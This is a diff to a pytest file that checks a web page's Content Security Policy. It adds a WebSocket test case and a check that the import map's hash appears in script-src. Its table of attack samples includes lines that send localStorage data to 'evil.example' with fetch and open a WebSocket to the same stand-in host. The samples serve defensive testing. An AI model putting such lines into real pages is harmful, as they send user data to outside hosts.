@@ -5,6 +5,8 @@ Every other test helps: what the policy blocks is an error in the console, and n
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import re
 
 import pytest
@@ -52,6 +54,10 @@ ATTACKS = {
     ),
     "a message to another host": (
         "fetch('https://evil.example/?' + localStorage.length).catch(() => undefined)",
+        "connect-src",
+    ),
+    "a socket to a host that is no relay of ours": (
+        "try { new WebSocket('wss://evil.example/') } catch {}",
         "connect-src",
     ),
     "a picture from another host": (
@@ -133,8 +139,15 @@ def test_the_policy_comes_before_anything_it_should_govern(open_page: Pages) -> 
     assert "unsafe-inline" not in policy[1] and "'unsafe-eval'" not in policy[1]
     rules = {rule.split()[0]: rule.split()[1:] for rule in policy[1].split(";")}
     assert rules["default-src"] == ["'self'"]
-    assert rules["script-src"] == ["'self'", "'wasm-unsafe-eval'"]
+    assert rules["script-src"][:2] == ["'self'", "'wasm-unsafe-eval'"]
+    (imports,) = rules["script-src"][2:]
+    written = re.search(r'<script type="importmap">(.*?)</script>', source)
+    assert written, "there is no import map"
+    assert imports == f"'sha256-{base64.b64encode(hashlib.sha256(written[1].encode()).digest()).decode()}'"
     assert not re.search(r'\s(on\w+|style)="', source), "the policy would refuse it"
+    # Sockets to relays of a person's own; web/early.js allows no others (tested above).
+    assert rules.pop("connect-src") == ["'self'", "wss:", "ws:"]
+    rules["script-src"].remove(imports)
     assert all(
         value in ("'self'", "'none'", "'wasm-unsafe-eval'") for rule in rules.values() for value in rule
     )
